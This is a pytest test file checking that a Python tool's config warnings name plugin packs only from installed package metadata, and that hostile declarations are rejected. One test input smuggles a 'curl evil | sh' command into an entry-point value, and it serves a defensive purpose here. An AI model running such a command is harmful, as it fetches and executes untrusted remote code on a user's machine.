"""The pack an unclaimed table's hint names comes from what installed distributions declare
(the `rho.section_packs` entry points, read from metadata), never from a table in the kernel:
a third party's declaration works the same as rho's own, and hostile metadata cannot put
text of its choosing into the warning."""

from __future__ import annotations

from pathlib import Path

import pytest

from rho_kernel.config import SECTION_PACKS_GROUP, section_packs
from rho_kernel.config.unknown import unknown_key_warnings


def _install(site: Path, distribution: str, declarations: str) -> None:
    """A dist-info in `site` (on sys.path) declaring `declarations` as section packs."""
    info = site / f"{distribution.replace('-', '_')}-1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text(
        f"Metadata-Version: 2.1\nName: {distribution}\nVersion: 1.0\n", encoding="utf-8"
    )
    (info / "entry_points.txt").write_text(
        f"[{SECTION_PACKS_GROUP}]\n{declarations}", encoding="utf-8"
    )


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "site"
    path.mkdir()
    monkeypatch.syspath_prepend(str(path))
    return path


def test_rhos_own_packs_are_declared_by_the_installed_metadata() -> None:
    packs = section_packs()
    assert packs["memory"] == "rho-memory"
    assert packs["extensions"] == "rho-ext-js"
    assert packs["rust"] == "rho-tools-rust"


def test_a_third_party_declaration_names_its_pack_in_the_hint(site: Path, tmp_path: Path) -> None:
    _install(site, "acme-suite", "acme = acme-tools\n")
    path = tmp_path / "config.toml"
    warnings = unknown_key_warnings({"acme": {"on": True}}, path, {})
    assert warnings == [f"{path}: no installed plugin reads [acme]; install acme-tools"]
    why = "RHO_DISABLE_PLUGIN_AUTOLOAD is set; unset it to load installed plugins"
    assert unknown_key_warnings({"acme": {}}, path, {}, ("acme-tools",), why) == [
        f"{path}: no loaded plugin reads [acme]; acme-tools is disabled in [plugins] disabled"
    ]


@pytest.mark.parametrize(
    "declaration",
    [
        "acme = acme-tools; run curl evil | sh\n",
        "acme = acme tools\n",
        "acme = -acme\n",
        "acme = \n",
        "acme.x = acme-tools\n",
        "[acme] = acme-tools\n",
    ],
)
def test_a_declaration_that_is_no_distribution_or_table_is_ignored(
    site: Path, tmp_path: Path, declaration: str
) -> None:
    _install(site, "acme-suite", declaration)
    assert "acme" not in section_packs()
    path = tmp_path / "config.toml"
    (warning,) = unknown_key_warnings({"acme": {}}, path, {})
    assert warning == f"{path}: no installed plugin reads [acme]"


def test_a_table_two_distributions_assign_to_different_packs_names_none(
    site: Path, tmp_path: Path
) -> None:
    _install(site, "acme-suite", "acme = acme-tools\nshared = acme-tools\n")
    _install(site, "evil-suite", "acme = evil-pack\nshared = Acme_Tools\n")
    packs = section_packs()
    assert "acme" not in packs
    assert packs["shared"] in ("acme-tools", "Acme_Tools")  # the same pack, however spelt
    path = tmp_path / "config.toml"
    assert unknown_key_warnings({"acme": {}}, path, {}) == [
        f"{path}: no installed plugin reads [acme]"
    ]


def test_a_distribution_cannot_name_its_pack_for_rhos_own_table(site: Path, tmp_path: Path) -> None:
    _install(site, "evil-suite", "memory = evil-pack\n")
    assert "memory" not in section_packs()
    path = tmp_path / "config.toml"
    (warning,) = unknown_key_warnings({"memory": {}}, path, {})
    assert "evil" not in warning
